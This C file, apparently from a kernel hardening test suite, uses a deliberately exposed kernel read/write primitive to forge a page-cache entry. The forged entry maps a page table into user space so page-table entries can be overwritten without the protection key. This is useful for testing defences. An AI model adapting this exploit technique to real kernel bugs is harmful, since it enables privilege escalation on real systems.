// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have the kernel map a page table to the attacker: a forged slot of the page
 * cache says that it is a page of a file. User mode writes there without asking
 * any key of the kernel.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "common.h"

/* Words of struct page but for the last, which says who pays for it. */
#define PAGE_WORDS	7

/* It is on a list of pages. This one is not to be. */
#define PG_LRU		(1UL << 5)

struct forgery {
	int file;
	struct kpkeys_vuln_file page;	/* of the file */
	u64 table;			/* the page to be mapped instead */
	u64 words[PAGE_WORDS];		/* its description before */
	char *mapped;
};

static struct forgery prepare(u64 table)
{
	struct forgery f = { .table = table };
	char path[32];

	f.file = memfd_create("forged", MFD_CLOEXEC);
	if (f.file < 0 || write(f.file, "x", 1) != 1)
		die_errno("creating a file");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", f.file);
	f.page = vuln_file(path);
	return f;
}

/* Map the table for the file: in a table of its own, which is not this one. */
static void map_table(struct forgery *f)
{
	size_t span = 1UL << vuln_info()->shift[KPKEYS_VULN_PMD];
	char *where = map_pages(NULL, 2 * span);
	int i;

	for (i = 0; i < PAGE_WORDS; i++) {
		u64 word = vuln_read(f->page.page + i * sizeof(u64));

		f->words[i] = vuln_read(f->table + i * sizeof(u64));
		vuln_write(f->table + i * sizeof(u64), i ? word : word & ~PG_LRU);
	}
	vuln_write(f->page.slot, f->table);
	where += span - (uintptr_t)where % span;
	f->mapped = mmap(where, page_size(), PROT_READ | PROT_WRITE,
			 MAP_SHARED | MAP_FIXED, f->file, 0);
	if (f->mapped == MAP_FAILED)
		die_errno("mapping the file");
}

static void unmap_table(const struct forgery *f)
{
	int i;

	munmap(f->mapped, page_size());
	vuln_write(f->page.slot, f->page.page);
	for (i = 0; i < PAGE_WORDS; i++)
		vuln_write(f->table + i * sizeof(u64), f->words[i]);
}

/*
 * By the kernel, which has a fault of its own to end where there is no mapping;
 * the attacker could do it as well.
 */
static void write_entry(struct forgery *f, const struct own_page *page, u64 value)
{
	int fds[2];

	map_table(f);
	if (pipe(fds) || write(fds[1], &value, sizeof(value)) != sizeof(value) ||
	    read(fds[0], f->mapped + page->addr % page_size(), sizeof(value)) !=
	    sizeof(value))
		die_errno("writing to the table");
	close(fds[0]);
	close(fds[1]);
	unmap_table(f);
}

int main(int argc, char **argv)
{
	struct own_page page = own_page(argc > 1 ? argv[1] : NULL);
	struct forgery f = prepare(page.table);

	keep_for_ever(CLONE_VM | CLONE_FILES);
	write_entry(&f, &page, page.forged);
	own_page_use(&page);
	write_entry(&f, &page, page.value);
	own_page_sync(&page);
	return 0;
}
